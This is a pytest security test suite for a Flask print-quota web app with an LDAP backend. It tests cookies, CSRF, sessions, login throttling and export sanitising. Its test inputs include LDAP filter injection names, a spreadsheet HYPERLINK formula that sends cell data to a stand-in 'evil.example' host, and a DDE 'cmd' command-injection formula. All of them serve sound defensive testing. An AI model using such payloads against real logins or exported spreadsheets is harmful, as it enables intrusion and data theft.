"""pkweb's sessions and defences, through Flask's test client against a real slapd (no browser:
what a browser would hide is checked here: cookie flags, headers, forged or replayed requests,
hostile names, an idle session)."""
from __future__ import annotations

import csv
import io
import re
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timezone

import pytest

from pykota_ldap.config import Config
from pykota_ldap.directory import Directory, accounts, history, printers, quotas
from pykota_ldap.directory.login import password_is_right
from pykota_ldap.model import Job
from pykota_ldap.report.formats import writer_for
from pykota_ldap.testing.printer import postscript
from pykota_ldap.testing.slapd import Slapd
from pykota_ldap.web import auth as login_module
from pykota_ldap.web.app import create_app
from pykota_ldap.web.throttle import Throttle


@pytest.fixture(scope="module")
def app(tmp_path_factory):
    with Slapd() as slapd:
        home = slapd.write_config(tmp_path_factory.mktemp("pkweb"), extra_global="webadmins: admins\n")
        config = Config(home)
        d = Directory(config.ldap(admin=True)).connect()
        printers.add_printer(d, "hp4", price_per_page=100)
        for user in ("alice", "bob", "jerome"):
            accounts.attach_user(d, user)
            quotas.add_user_quota(d, user, "hp4", hard=50)
        accounts.attach_group(d, "eleves")                       # alice and bob are members
        quotas.add_group_quota(d, "eleves", "hp4", soft=10, hard=20)
        group_entry = quotas.group_quota_dn(d, "eleves", "hp4")    # a member's charge counts on it too
        quotas.add_pages(d, [quotas.user_quota_dn(d, "alice", "hp4"), group_entry], 7)
        quotas.add_pages(d, [quotas.user_quota_dn(d, "bob", "hp4"), group_entry], 5)
        d.close()
        application = create_app(config)
        application.testing = False
        application.extensions["pykota"].refusal_seconds = 0.0      # one test checks the floor
        yield application


def token(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def logged_in(app, user: str, password: str):
    client = app.test_client()
    page = client.get("/login").text
    answer = client.post("/login", data={"csrf": token(page), "username": user, "password": password})
    assert answer.status_code == 302, answer.text
    return client


def test_the_session_cookie_is_signed_httponly_secure_and_samesite(app):
    client = app.test_client()
    cookie = client.get("/login").headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "Secure" in cookie and "SameSite=Strict" in cookie
    name, _, value = cookie.split(";")[0].partition("=")
    forged = app.test_client()
    forged.set_cookie(name, value[:-3] + "abc")                  # a changed signature is no session
    assert forged.get("/").status_code == 302


def test_every_page_carries_the_security_headers(app):
    client = logged_in(app, "alice", "alicepw")
    for path in ("/login", "/", "/quote", "/admin/report"):
        headers = client.get(path).headers
        assert "script-src" not in headers["Content-Security-Policy"]
        assert "default-src 'none'" in headers["Content-Security-Policy"]
        assert headers["X-Frame-Options"] == "DENY" and headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Cache-Control"] == "no-store" and headers["Referrer-Policy"] == "no-referrer"


def test_a_login_without_the_forms_token_is_refused(app):
    client = app.test_client()
    client.get("/login")
    answer = client.post("/login", data={"username": "alice", "password": "alicepw"})
    assert answer.status_code == 400 and "did not come from this site" in answer.text
    assert client.get("/").status_code == 302                    # still not logged in


def test_a_logout_without_the_token_is_refused(app):
    client = logged_in(app, "alice", "alicepw")
    assert client.post("/logout", data={"csrf": "guess"}).status_code == 400
    assert client.get("/").status_code == 200


@pytest.mark.parametrize("name", ["*", "*)(uid=*", "al*", "alice)(|(uid=*", "uid=alice,ou=People,dc=example,dc=org",
                                  "alice\x00", "a" * 300])
def test_hostile_names_log_nobody_in(app, name):
    client = app.test_client()
    page = client.get("/login").text
    answer = client.post("/login", data={"csrf": token(page), "username": name, "password": "alicepw"})
    assert answer.status_code == 401 and "Wrong user name or password." in answer.text


def test_an_empty_password_is_never_an_anonymous_bind(app):
    settings = app.extensions["pykota"].config.ldap(admin=True)
    assert not password_is_right(settings, "uid=alice,ou=People,dc=example,dc=org", "")
    assert password_is_right(settings, "uid=alice,ou=People,dc=example,dc=org", "alicepw")


@pytest.mark.parametrize("password", ["alicepw\x00", "\x01", "\ue000"])
def test_a_password_the_directory_cannot_be_sent_is_a_wrong_password(app, password):
    """SASLprep (RFC 4013) refuses control and private-use characters in a bind's password: that
    is a failed login, counted, never "the directory does not answer"."""
    settings = app.extensions["pykota"].config.ldap(admin=True)
    assert not password_is_right(settings, "uid=alice,ou=People,dc=example,dc=org", password)
    client = app.test_client()
    page = client.get("/login").text
    answer = client.post("/login", data={"csrf": token(page), "username": "alice", "password": password})
    assert answer.status_code == 401 and "Wrong user name or password." in answer.text


def test_an_idle_session_ends(app):
    client = logged_in(app, "bob", "bobpw")
    assert client.get("/").status_code == 200
    web = app.extensions["pykota"]
    saved, web.idle_seconds = web.idle_seconds, 0.2
    try:
        time.sleep(0.3)
        answer = client.get("/")
        assert answer.status_code == 401 and "Your session has ended" in answer.text
        assert client.get("/").status_code == 302                # and it stays ended
    finally:
        web.idle_seconds = saved


def test_a_busy_session_ends_at_its_lifetime_and_its_copies_with_it(app):
    client = logged_in(app, "bob", "bobpw")
    copy = app.test_client()
    copy.set_cookie("pkweb", client.get_cookie("pkweb").value)             # a cookie taken from it
    web = app.extensions["pykota"]
    saved, web.lifetime_seconds = web.lifetime_seconds, 0.6
    try:
        for _ in range(4):                                                  # busy: never idle
            assert client.get("/").status_code == 200
            time.sleep(0.1)
        time.sleep(0.4)
        answer = client.get("/")
        assert answer.status_code == 401 and "Your session has ended" in answer.text
        assert copy.get("/").status_code in (302, 401)
        assert logged_in(app, "bob", "bobpw").get("/").status_code == 200   # a new login works
    finally:
        web.lifetime_seconds = saved


def test_a_user_gets_only_her_own_data_whatever_the_parameters(app):
    client = logged_in(app, "alice", "alicepw")
    assert client.get("/?user=bob").status_code == 403
    assert client.get("/?user=BOB").status_code == 403
    assert client.get("/?user=ALICE").status_code == 200         # herself, however spelt
    assert client.get("/why?job=1&user=bob").status_code == 403
    assert client.get("/why?job=*").status_code == 400
    assert client.get("/admin/export/download?dataset=all&format=xml").status_code == 403


def test_an_admin_may_look_at_anyone(app):
    client = logged_in(app, "jerome", "jeromepw")
    page = client.get("/?user=bob")
    assert page.status_code == 200 and 'id="subject">bob<' in page.text
    assert client.get("/admin/report?mask=*)(uid=*").status_code == 200
    assert client.get("/admin/export/download?dataset=nothing&format=csv").status_code == 400


def test_an_export_disarms_what_a_spreadsheet_would_run_as_a_formula(app):
    """A job's title and host are the user's: in a download opened in LibreOffice or Excel a cell
    starting with = + - @ would run as a formula; it starts with ' there. dumpykota keeps the bytes."""
    title = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    job = Job(job_id="4242", user="alice", printer="hp4", date=datetime(2026, 11, 30, 9, tzinfo=timezone.utc),
              action="ALLOW", size=1, price=100, title=title, hostname="@SUM(1)", filename="+cmd", copies=1)
    with Directory(app.extensions["pykota"].config.ldap(admin=True)) as d:
        history.add_job(d, job, history.new_name("hp4"))
    body = logged_in(app, "jerome", "jeromepw").get("/admin/export/download?dataset=history&format=csv"
                                                    "&filters=jobid=4242").text
    line = body.splitlines()[1]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1\\,""open"")"' in line, line
    assert '"\'@SUM(1)"' in line and '"\'+cmd"' in line and '"alice"' in line, line
    raw = io.StringIO()
    writer = writer_for("csv", raw)                                  # dumpykota's writer: the title as it is
    writer.start("history", ["title"])
    writer.row({"title": title})
    assert raw.getvalue().splitlines()[1] == '"=HYPERLINK(\\"http://evil.example/?\\"&A1\\,\\"open\\")"'


@pytest.mark.parametrize("fmt", ["csv", "ssv", "tsv"])
def test_no_text_of_an_export_ends_its_own_cell_in_a_spreadsheet(app, fmt):
    """A spreadsheet reads RFC 4180, where PyKota's \\" does not keep a quote inside its cell: a
    title closing its cell with " and a newline would start a formula of its own."""
    title = 'report"\n=cmd|\' /C calc\'!A0\n"'
    job_id = {"csv": "4301", "ssv": "4302", "tsv": "4303"}[fmt]
    job = Job(job_id=job_id, user="bob", printer="hp4", date=datetime(2026, 11, 30, 10, tzinfo=timezone.utc),
              action="ALLOW", size=1, price=100, title=title, hostname='x";"=1+1', copies=1)
    with Directory(app.extensions["pykota"].config.ldap(admin=True)) as d:
        history.add_job(d, job, history.new_name("hp4"))
    body = logged_in(app, "jerome", "jeromepw").get(f"/admin/export/download?dataset=history&format={fmt}"
                                                    f"&filters=jobid={job_id}").text
    rows = list(csv.reader(io.StringIO(body), delimiter={"csv": ",", "ssv": ";", "tsv": "\t"}[fmt]))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0]), rows               # the header and one job
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))], rows
    assert any(cell.startswith("report\"") for cell in rows[1]), rows         # the title, whole, in its cell


def test_the_health_check_runs_on_request_for_admins_only(app):
    admin = logged_in(app, "jerome", "jeromepw")
    page = admin.get("/admin/health").text
    assert "<li class=" not in page                              # nothing run yet
    answer = admin.post("/admin/health", data={"csrf": token(page)})
    assert answer.status_code == 200
    findings = re.findall(r'<li class="(ok|warning|problem)">([^<]*)</li>', answer.text)
    assert any(level == "ok" and "bind" in text for level, text in findings), findings[:5]
    user = logged_in(app, "alice", "alicepw")
    assert user.post("/admin/health", data={"csrf": token(user.get("/").text)}).status_code == 403


def test_a_member_sees_her_groups_quota_and_the_admin_the_groups_report(app):
    page = logged_in(app, "alice", "alicepw").get("/").text
    table = page.split('id="groupquotas"', 1)[1].split("</table>", 1)[0]
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", table)
    assert cells[:7] == ["eleves", "hp4", "+Q", "12", "10", "20", ""]          # 7 + 5 pages, no grace date yet
    assert "jerome" not in table
    report = logged_in(app, "jerome", "jeromepw").get("/admin/report?groups=1&mask=ele*").text
    assert "Report for group quota on printer hp4" in report
    row = re.findall(r"<td[^>]*>([^<]*)</td>", report.split("<tbody>", 1)[1])
    assert row[:4] == ["eleves", "+Q", "N/A", "12"]


def test_the_throttle_counts_every_spelling_the_directory_takes_as_one_name(app):
    """The directory matches uid case- and width-insensitively ("ｂob" is bob): each spelling
    must not get its own five tries."""
    web = app.extensions["pykota"]
    saved, web.throttle = web.throttle, Throttle(address_limit=1000)
    try:
        client = app.test_client()
        for spelling in ("ｂob", "bｏb", "boｂ", "ｂｏb", "BＯB"):
            page = client.get("/login").text
            answer = client.post("/login", data={"csrf": token(page), "username": spelling, "password": "guess"})
            assert answer.status_code == 401
        page = client.get("/login").text
        answer = client.post("/login", data={"csrf": token(page), "username": "bob", "password": "bobpw"})
        assert answer.status_code == 429 and "Too many failed logins" in answer.text
    finally:
        web.throttle = saved


def _try(app, user: str, password: str, address: str) -> int:
    client = app.test_client()
    page = client.get("/login", environ_base={"REMOTE_ADDR": address}).text
    return client.post("/login", data={"csrf": token(page), "username": user, "password": password},
                       environ_base={"REMOTE_ADDR": address}).status_code


def test_no_refused_login_is_answered_sooner_than_the_floor(app):
    """A wrong password costs the directory a hash check that an unknown name does not: how long
    a refusal takes must not tell which names exist, so none comes sooner than the floor."""
    web = app.extensions["pykota"]
    saved, web.refusal_seconds = web.refusal_seconds, 0.4
    try:
        for name, address in (("nosuchname", "10.5.5.5"), ("alice", "10.5.5.6"), ("x" * 5000, "10.5.5.7")):
            started = time.monotonic()
            assert _try(app, name, "guess", address) == 401
            assert time.monotonic() - started >= 0.4, name[:20]
    finally:
        web.refusal_seconds = saved


def test_the_throttle_keeps_nothing_for_refused_tries_and_forgets_old_failures():
    now = [0.0]
    throttle = Throttle(clock=lambda: now[0])
    for number in range(20):
        assert throttle.begin(f"name{number}", "10.6.6.6") == 0                # the address's 20 tries
    kept = len(throttle._failures)
    for number in range(10_000):                                               # then a flood, all refused
        assert throttle.begin(f"flood{number}", "10.6.6.6") > 0
    assert len(throttle._failures) == kept == 41                               # 20 pairs, 20 names, 1 address
    now[0] = throttle.window + 1                                               # a quarter of an hour later
    for number in range(1000):                                                 # up to the next sweep
        assert throttle.begin(f"user{number}", f"10.7.{number // 250}.{number % 250}") == 0
    assert not [key for key in throttle._failures if "10.6.6.6" in key or key[1].startswith(("name", "flood"))]


def test_a_name_typed_wrong_from_one_address_is_not_locked_for_the_others(app):
    """A student who types a teacher's name five times wrong locks himself out, not the teacher."""
    web = app.extensions["pykota"]
    saved, web.throttle = web.throttle, Throttle()
    try:
        assert [_try(app, "alice", "guess", "10.1.1.1") for _ in range(5)] == [401] * 5
        assert _try(app, "alice", "alicepw", "10.1.1.1") == 429               # the guesser: locked
        assert _try(app, "alice", "alicepw", "10.2.2.2") == 302               # alice, elsewhere: in
        assert _try(app, "alice", "alicepw", "10.1.1.1") == 429               # her login freed no guesser
    finally:
        web.throttle = saved


def test_a_name_guessed_from_many_addresses_is_locked_for_everyone(app):
    web = app.extensions["pykota"]
    saved, web.throttle = web.throttle, Throttle(user_limit=10, address_limit=1000)
    try:
        for number in range(10):                                              # 10 addresses, one try each
            assert _try(app, "bob", "guess", f"10.3.3.{number}") == 401
        assert _try(app, "bob", "bobpw", "10.4.4.4") == 429
    finally:
        web.throttle = saved


def test_a_cookie_copied_before_logout_is_no_session_after_it(app):
    client = logged_in(app, "alice", "alicepw")
    copied = client.get_cookie("pkweb").value
    assert client.post("/logout", data={"csrf": token(client.get("/").text)}).status_code == 302
    thief = app.test_client()
    thief.set_cookie("pkweb", copied)
    assert thief.get("/").status_code == 302                     # sent to the login page
    assert logged_in(app, "alice", "alicepw").get("/").status_code == 200


def test_quotes_counted_at_once_are_few_and_the_next_one_is_told_to_wait(app):
    """Each count may take `pdltimeout` and a child of its own: a user sending many at once
    must not hold every thread of the server."""
    client = logged_in(app, "alice", "alicepw")
    csrf = token(client.get("/quote").text)

    def send():
        return client.post("/quote", data={"csrf": csrf, "document": (io.BytesIO(postscript(1)), "one.ps")},
                           content_type="multipart/form-data")

    assert "1 pages" in send().text
    counting = app.extensions["pykota"].counting
    held = 0
    while counting.acquire(blocking=False):                     # every slot busy, as with slow counts
        held += 1
    try:
        answer = send()
        assert answer.status_code == 503 and "Too many quotes are being counted" in answer.text
    finally:
        for _slot in range(held):
            counting.release()
    assert held >= 1 and "1 pages" in send().text


def test_x_forwarded_for_is_not_believed_without_a_proxy(app):
    """Without --behind-proxy the address counted is the peer's: a client naming itself in
    X-Forwarded-For gets no fresh address per try."""
    web = app.extensions["pykota"]
    saved, web.throttle = web.throttle, Throttle(user_limit=1000, address_limit=3)
    try:
        client = app.test_client()
        for attempt in range(3):
            page = client.get("/login").text
            client.post("/login", data={"csrf": token(page), "username": f"nobody{attempt}", "password": "x"},
                        headers={"X-Forwarded-For": f"10.0.0.{attempt}"})
        page = client.get("/login").text
        answer = client.post("/login", data={"csrf": token(page), "username": "alice", "password": "alicepw"},
                             headers={"X-Forwarded-For": "10.0.0.99"})
        assert answer.status_code == 429
    finally:
        web.throttle = saved


def test_an_admin_taken_out_of_webadmins_loses_the_admin_pages_at_once(app):
    admin = logged_in(app, "jerome", "jeromepw")
    assert admin.get("/admin/report").status_code == 200
    d = Directory(app.extensions["pykota"].config.ldap(admin=True)).connect()
    try:
        d.delete_values("cn=admins,ou=Groups,dc=example,dc=org", "memberUid", ["jerome"])
        assert admin.get("/admin/report").status_code == 403
        assert admin.get("/?user=bob").status_code == 403
        assert admin.get("/").status_code == 200                # still logged in, as a user
    finally:
        d.add_values("cn=admins,ou=Groups,dc=example,dc=org", "memberUid", ["jerome"])
        d.close()


def test_tries_sent_at_once_count_before_their_answers(app):
    """pkweb answers with several threads: tries sent together must not all pass the throttle
    before the first of them is counted as failed."""
    web = app.extensions["pykota"]
    saved, web.throttle = web.throttle, Throttle(user_limit=3, address_limit=1000)
    started = threading.Barrier(8)
    real = login_module.password_is_right

    def slow_wrong(*args):
        time.sleep(0.3)                                          # every try is in flight at once
        return real(*args)

    def attempt(_n):
        client = app.test_client()
        page = client.get("/login").text
        started.wait()
        return client.post("/login", data={"csrf": token(page), "username": "bob", "password": "guess"}).status_code

    login_module.password_is_right = slow_wrong
    try:
        with ThreadPoolExecutor(8) as pool:
            codes = sorted(pool.map(attempt, range(8)))
    finally:
        login_module.password_is_right = real
        web.throttle = saved
    assert codes == [401] * 3 + [429] * 5, codes
